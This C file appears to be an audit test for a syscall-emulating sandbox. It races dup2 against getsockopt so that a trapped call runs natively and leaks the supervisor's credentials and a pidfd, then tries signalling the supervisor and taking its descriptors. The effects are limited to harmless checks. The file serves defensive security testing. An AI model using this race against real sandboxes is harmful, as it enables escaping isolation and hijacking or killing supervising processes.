/* Trick (audit): the supervisor's identity through the bridge. An emulated
 * socket's space end is one end of a unix socketpair the SUPERVISOR made, so
 * natively SO_PEERCRED on it names the supervisor (pid, uid) and
 * SO_PEERPIDFD (Linux 6.5+) hands out a pidfd of it, on which the filter
 * allows pidfd_send_signal and pidfd_getfd. The supervisor traps
 * getsockopt in a portspace, but when the descriptor is not a socket (or not
 * there) at the moment it looks, handle_portspace_socket answers "not ours"
 * and handlers_socket.cpp CONTINUEs the call: the kernel then runs it on
 * whatever the number holds by then. A thread swaps the number between a
 * pipe and the space end (dup2) while another calls getsockopt on it.
 *
 * Leaks: a peer pid that is not ours (the supervisor's), a pidfd of it that
 * can be signalled (signal 0 only) or whose descriptors can be taken
 * (descriptor 0, closed at once). argv[1]: tries (default 200000). */
#include <pthread.h>
#include <signal.h>
#include <sys/syscall.h>

#include "net.h"

#ifndef SO_PEERPIDFD
#define SO_PEERPIDFD 77
#endif

static int target = 200, sock_fd, pipe_fd;
static volatile int stop;

static void* swapper(void* arg) {
    (void)arg;
    while (!stop) {
        dup2(sock_fd, target);
        dup2(pipe_fd, target);
    }
    return NULL;
}

int main(int argc, char** argv) {
    long tries = argc > 1 ? atol(argv[1]) : 200000;
    int p[2];
    sock_fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (sock_fd < 0 || pipe(p) < 0) {
        fprintf(stderr, "FAIL: socket/pipe: %s\n", strerror(errno));
        return 2;
    }
    pipe_fd = p[0];
    pthread_t t;
    pthread_create(&t, NULL, swapper, NULL);
    long native = 0, cred_found = 0, pidfd_found = 0;
    for (long i = 0; i < tries && !(cred_found && pidfd_found); ++i) {
        struct ucred cred;
        socklen_t l = sizeof cred;
        if (!cred_found && getsockopt(target, SOL_SOCKET, SO_PEERCRED, &cred, &l) == 0) {
            native++;
            if (cred.pid != getpid() && cred.pid != 0) {
                cred_found = 1;
                leak("SO_PEERCRED on the bridge (call continued natively): peer pid %d uid %d, not ours (%d)",
                     (int)cred.pid, (int)cred.uid, (int)getpid());
            }
        }
        int pidfd = -1;
        l = sizeof pidfd;
        if (!pidfd_found && getsockopt(target, SOL_SOCKET, SO_PEERPIDFD, &pidfd, &l) == 0 && pidfd >= 0) {
            pidfd_found = 1;
            leak("SO_PEERPIDFD on the bridge gave a pidfd (fd %d) of the supervisor", pidfd);
            if (syscall(SYS_pidfd_send_signal, pidfd, 0, NULL, 0) == 0)
                leak("pidfd_send_signal(signal 0) on the supervisor's pidfd succeeded: it could be killed");
            else
                note("pidfd_send_signal(signal 0) on the supervisor's pidfd: %s", strerror(errno));
            long got = syscall(SYS_pidfd_getfd, pidfd, 0, 0);
            if (got >= 0) {
                leak("pidfd_getfd took descriptor 0 of the supervisor (as fd %ld)", got);
                close((int)got);
            } else {
                note("pidfd_getfd on the supervisor's pidfd: %s", strerror(errno));
            }
            close(pidfd);
        }
    }
    stop = 1;
    pthread_join(t, NULL);
    close(target);
    printf("tries %ld, native answers %ld\n", tries, native);
    return net_finish();
}
